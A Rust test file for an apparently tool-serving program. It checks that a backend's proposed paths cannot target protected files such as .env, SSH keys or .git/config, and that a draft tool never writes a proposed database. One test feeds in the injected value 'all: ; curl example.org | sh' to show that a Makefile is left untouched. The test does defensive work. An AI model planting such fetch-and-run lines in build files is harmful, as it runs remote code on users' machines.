//! The backend's catalog is the backend's own word: the paths it proposes
//! (home, database, accounts, profile) are checked at least as strictly as
//! the owner's options, and a draft never writes a database it proposes.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::support::server_bin;
use crate::support::tools::fake_backend;
use serde_json::Value;

/// A user's home folder with a workspace in it, as the server's user sees it.
struct World {
    _dir: tempfile::TempDir,
    /// `HOME` for the server.
    user: PathBuf,
    /// The workspace (`--home`), inside `user`.
    ws: PathBuf,
    /// A folder outside `user` to start the server in.
    outside: PathBuf,
}

const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";
const MAKEFILE: &str = "all:\n\ttrue\n";

impl World {
    fn new() -> World {
        let dir = tempfile::Builder::new()
            .prefix("rwmcp-catalog-")
            .tempdir()
            .unwrap();
        let base = dir.path().canonicalize().unwrap();
        let user = base.join("user");
        let ws = user.join("ws");
        let outside = base.join("outside");
        for d in [
            ws.join(".git"),
            ws.join("data"),
            ws.join(".ssh"),
            outside.clone(),
        ] {
            fs::create_dir_all(d).unwrap();
        }
        fs::write(ws.join(".git/config"), GIT_CONFIG).unwrap();
        fs::write(ws.join("Makefile"), MAKEFILE).unwrap();
        fs::write(ws.join(".env"), "API_TOKEN=kept-from-runs\n").unwrap();
        fs::write(ws.join(".ssh/id_ed25519"), "not a real key\n").unwrap();
        fs::write(ws.join("data/shelf.db"), "").unwrap();
        World {
            _dir: dir,
            user,
            ws,
            outside,
        }
    }

    /// The server on the fake backend, `HOME` set to the user's folder and
    /// every catalog knob cleared; `fake` sets some.
    fn command(&self, fake: &[(&str, &Path)]) -> Command {
        let mut c = Command::new(server_bin());
        c.arg("--backend")
            .arg(fake_backend())
            .env("HOME", &self.user)
            .current_dir(&self.ws);
        for knob in ["HOME", "DB", "ACCOUNTS", "PROFILE", "CATALOG"] {
            c.env_remove(format!("REACHWEAVER_FAKE_{knob}"));
        }
        for (knob, value) in fake {
            c.env(format!("REACHWEAVER_FAKE_{knob}"), value);
        }
        c
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// `tools --json` as run by `c`: the tool names offered and the start-up line.
fn offered(mut c: Command, extra: &[&str]) -> (Vec<String>, String) {
    let out = c
        .arg("tools")
        .arg("--json")
        .args(extra)
        .args(["--sandbox", "best-effort"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let names = v["commands"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["tool"].as_str().map(str::to_string))
        .collect();
    (names, stderr(&out))
}

/// Start `tools` expecting a refusal at start; its one message.
fn refused_at_start(mut c: Command) -> String {
    let out = c
        .args(["tools", "--sandbox", "best-effort"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(out.stdout.is_empty(), "{out:?}");
    stderr(&out)
}

#[test]
fn a_database_the_catalog_proposes_is_read_but_never_written_by_a_draft() {
    let w = World::new();
    // Any regular file of the home: `make` would run what a draft appended.
    let proposed = w.ws.join("Makefile");
    let fake = [("DB", proposed.as_path())];

    let mut c = w.command(&fake);
    c.arg(format!("--home={}", w.ws.display()));
    let (names, log) = offered(c, &["--allow-drafts"]);
    assert!(!names.iter().any(|n| n == "draft"), "{names:?}");
    assert!(names.iter().any(|n| n == "stock_report"), "{names:?}");
    assert!(
        log.contains(&format!(
            "refused: --allow-drafts (a draft writes only the database you name with --db; \
             the backend's catalog proposes {}, which runs may read but no draft may write \
             (pass --db={} to allow it); the draft tool is withheld)",
            proposed.display(),
            proposed.display()
        )),
        "{log}"
    );

    // Called anyway, by name: no such tool, and the file is as it was.
    let mut c = w.command(&fake);
    let out = c
        .arg(format!("--home={}", w.ws.display()))
        .args([
            "call",
            "draft",
            "--arg",
            "note=all: ; curl example.org | sh",
        ])
        .args(["--allow-drafts", "--sandbox", "best-effort"])
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(&proposed).unwrap(), MAKEFILE);

    // A read-only run is still given the proposal as the database, to read.
    let mut c = w.command(&fake);
    let out = c
        .arg(format!("--home={}", w.ws.display()))
        .args(["call", "stock_report", "--sandbox", "best-effort"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let globals = v["output"]["globals"].to_string();
    assert!(
        globals.contains(&format!("--db={}", proposed.display())),
        "{globals}"
    );
    assert_eq!(fs::read_to_string(&proposed).unwrap(), MAKEFILE);
}

#[test]
fn a_database_the_owner_names_is_the_one_a_draft_writes() {
    let w = World::new();
    let db = w.ws.join("data/shelf.db");
    let mut c = w.command(&[("DB", &w.ws.join(".git/config"))]);
    c.arg(format!("--home={}", w.ws.display()))
        .arg(format!("--db={}", db.display()));
    let (names, log) = offered(c, &["--allow-drafts"]);
    assert!(names.iter().any(|n| n == "draft"), "{names:?}\n{log}");
    assert!(!log.contains("refused: --allow-drafts"), "{log}");

    let mut c = w.command(&[]);
    let out = c
        .arg(format!("--home={}", w.ws.display()))
        .arg(format!("--db={}", db.display()))
        .args(["call", "draft", "--arg", "note=restock"])
        .args(["--allow-drafts", "--sandbox", "best-effort"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        fs::read_to_string(&db).unwrap().contains("ran draft"),
        "the owner's database was written"
    );
}

#[test]
fn allow_drafts_without_any_database_withholds_the_draft() {
    let w = World::new();
    let mut c = w.command(&[]);
    c.arg(format!("--home={}", w.ws.display()));
    let (names, log) = offered(c, &["--allow-drafts"]);
    assert!(!names.iter().any(|n| n == "draft"), "{names:?}");
    assert!(
        log.contains(
            "refused: --allow-drafts (a draft writes only the database you name with --db, \
             and none was given; the draft tool is withheld)"
        ),
        "{log}"
    );
}

#[test]
fn the_catalog_may_not_name_a_protected_file_as_accounts_or_profile() {
    let w = World::new();
    for (knob, field, file) in [
        ("ACCOUNTS", "paths.accounts", w.ws.join(".env")),
        ("PROFILE", "paths.profile", w.ws.join(".ssh/id_ed25519")),
        ("DB", "paths.db", w.ws.join(".env")),
        ("DB", "paths.db", w.ws.join(".git/config")),
    ] {
        let mut c = w.command(&[(knob, &file)]);
        c.arg(format!("--home={}", w.ws.display()));
        let err = refused_at_start(c);
        assert_eq!(err.lines().count(), 1, "one clear line: {err}");
        assert!(
            err.contains(&format!(
                "the backend's catalog field {field} {}: refused: the backend's catalog may not \
                 propose a protected path",
                file.display()
            )),
            "{err}"
        );
    }
    // The owner's own choice of the same files keeps the fixed files' exemption.
    let mut c = w.command(&[]);
    c.arg(format!("--home={}", w.ws.display()))
        .arg(format!("--accounts={}", w.ws.join(".env").display()))
        .arg(format!(
            "--profile={}",
            w.ws.join(".ssh/id_ed25519").display()
        ));
    let (names, log) = offered(c, &[]);
    assert!(
        names.iter().any(|n| n == "stock_report"),
        "{names:?}\n{log}"
    );
}

#[test]
fn a_home_the_catalog_proposes_lies_in_the_users_home_or_a_root_the_owner_chose() {
    let w = World::new();
    // System folders: none is inside the user's home or the current folder.
    let system: Vec<&str> = [
        "/var",
        "/opt",
        "/srv",
        "/usr/local",
        "/home",
        "/var/lib",
        "/boot",
    ]
    .into_iter()
    .filter(|p| Path::new(p).is_dir())
    .collect();
    assert!(system.len() >= 4, "too few system folders here: {system:?}");
    for folder in &system {
        let mut c = w.command(&[("HOME", Path::new(folder))]);
        c.current_dir(&w.outside);
        let err = refused_at_start(c);
        assert!(
            err.contains(&format!(
                "the backend's catalog field paths.home {folder}: refused"
            )),
            "{folder}: {err}"
        );
    }
    let mut c = w.command(&[("HOME", Path::new("/var"))]);
    c.current_dir(&w.outside);
    assert!(
        refused_at_start(c).contains(&format!(
            "refused: a home the backend proposes must be a folder inside your home folder {} or \
             the current folder {}; pass --home to name this one yourself",
            w.user.display(),
            w.outside.display()
        )),
        "the message names where a home may lie"
    );

    // A protected folder inside the user's home is no home either.
    let mut c = w.command(&[("HOME", &w.ws.join(".ssh"))]);
    c.current_dir(&w.outside);
    let err = refused_at_start(c);
    assert!(
        err.contains("paths.home") && err.contains("the pattern `.ssh/` covers it"),
        "{err}"
    );

    // Inside the user's home, or inside the current folder: taken.
    for (home, cwd) in [
        (w.ws.clone(), w.outside.clone()),
        (w.outside.join("rw"), w.outside.clone()),
    ] {
        fs::create_dir_all(&home).unwrap();
        let mut c = w.command(&[("HOME", &home)]);
        c.current_dir(&cwd);
        let (names, log) = offered(c, &[]);
        assert!(
            names.iter().any(|n| n == "stock_report"),
            "{names:?}\n{log}"
        );
        assert!(
            log.contains(&format!("home {} (from the catalog)", home.display())),
            "{log}"
        );
    }
    // The user's home folder itself is refused by the guard, as ever.
    let mut c = w.command(&[("HOME", &w.user)]);
    c.current_dir(&w.outside);
    assert!(refused_at_start(c).contains("paths.home"));
}
